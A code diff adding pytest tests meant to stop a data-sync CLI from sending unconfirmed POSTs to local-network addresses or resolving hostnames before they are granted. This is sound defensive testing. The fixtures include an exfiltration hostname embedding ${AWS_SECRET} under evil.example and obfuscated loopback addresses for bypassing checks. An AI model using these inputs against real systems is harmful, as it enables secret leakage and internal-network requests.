@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import os
 import pty
+import socket
 import socketserver
 import subprocess
 from collections.abc import Callable, Iterator, Mapping
@@ -708,6 +709,117 @@ def test_no_other_part_of_an_answer_gets_a_secret_into_a_message(
     )
     assert json.loads(done.stdout)["status"] == "failed"
     assert TOKEN not in done.output
+
+
+# -- what is sent to this machine and its network ---------------------------------------------------------
+
+POSTED = "{name: items, primary_key: id, endpoint: {path: items, method: POST, json: {a: 1}}}"
+QUERIES = "queries: [{name: q, dataset_id: d, sql: SELECT 1}]"
+CHANGES: Mapping[str, tuple[str, ...]] = {
+    "query": ("query", "ds_1", "SELECT 1", "--table", "t"),
+    "download": ("download", "ds_1", "--table", "t"),
+    "runs start": ("runs", "start", "--agent", "a", "--task", "t"),
+    "webhook register": ("webhook", "register", "https://hooks.example.com/x"),
+    "webhook delete": ("webhook", "delete", "w"),
+}
+
+
+@pytest.mark.parametrize("command", ["sync", "plan", "check"])
+@pytest.mark.parametrize(("resource", "more"), [(POSTED, ""), (LIST, QUERIES)])
+def test_a_file_posts_to_no_address_of_this_network_unconfirmed(
+    resource: str, more: str, command: str, theirs: Recorder
+) -> None:
+    asks(theirs, resource=resource, more=more)
+    done = run(command, "--source", "shop.yaml")
+    told = str(done.exception) + done.output
+    assert "oa-sync trust shop.yaml" in told
+    assert theirs.host in told
+    assert isinstance(done.exception, ConfigurationError) or done.exit_code == 2
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("command", CHANGES)
+def test_no_command_posts_for_a_file_to_an_address_of_this_network_unconfirmed(
+    command: str, theirs: Recorder
+) -> None:
+    asks(theirs)
+    flags = ("--source", "shop.yaml", "--dialect", "cursor")
+    if command == "webhook register":
+        os.environ.pop("OPENANALYST_WEBHOOK_SECRET")
+    assert f"OPENANALYST_BASE_URL={theirs.url}" in refusal(*CHANGES[command], *flags)
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("way", ["trust", "environment", "grant", "grant of all ports"])
+def test_a_post_that_the_user_confirmed_is_sent(
+    way: str, theirs: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asks(theirs, resource=POSTED)
+    grants: tuple[str, ...] = ()
+    match way:
+        case "trust":
+            told = run("trust", "shop.yaml", "--yes").stdout
+            assert f"shop.yaml sends POST requests to {theirs.host}" in told
+        case "environment":
+            monkeypatch.setenv("OPENANALYST_BASE_URL", f"{theirs.url}/v2")
+        case "grant":
+            grants = (f"ANY@{theirs.host}",)
+        case _:
+            grants = ("ANY@127.0.0.1",)
+    synced(*grants)
+    assert theirs.got("POST /items")
+
+
+def test_a_confirmed_file_posts_nowhere_else_and_sends_nothing_more(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    asks(ours)
+    run("trust", "shop.yaml", "--yes")
+    synced()
+    asks(ours, resource=POSTED)
+    with pytest.raises(ConfigurationError, match="POST"):
+        synced()
+    assert not ours.got("POST"), "that it may be asked by GET says nothing of POST"
+    run("trust", "shop.yaml", "--yes")
+    asks(theirs, resource=POSTED)
+    with pytest.raises(ConfigurationError, match="POST"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_confirms_no_post(theirs: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither by the host that it names, nor with a key of its own."""
+    monkeypatch.delenv("OPENANALYST_API_KEY")
+    asks(theirs, resource=POSTED)
+    configured(base_url=theirs.url, api_key="oa_test_of_the_folder")
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced()
+    written(f"resources: [{POSTED}]")
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("name", ["127.1", "2130706433", "0x7f.1", "localhost"])
+def test_a_name_of_an_address_of_this_network_is_found_out(name: str) -> None:
+    with listening() as server:
+        at = f"https://{name}:{server.server_address[1]}"
+        written(f"client: {{base_url: '{at}'}}\nresources: [{POSTED}]")
+        with pytest.raises(ConfigurationError, match="oa-sync trust"):
+            synced()
+        assert calls(server) == 0
+
+
+def test_a_host_is_not_looked_up_before_all_that_is_in_it_was_granted(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Who asks a name server tells it the name."""
+    asked: list[object] = []
+    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *rest, **more: asked.append(host) or [])
+    written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{POSTED}]")
+    for command in (("sync", "--source"), ("trust",), ("validate",), ("resources", "--source")):
+        run(*command, "shop.yaml")
+    assert asked == []
 
 
 # -- secrets in the file itself --------------------------------------------------------------------------
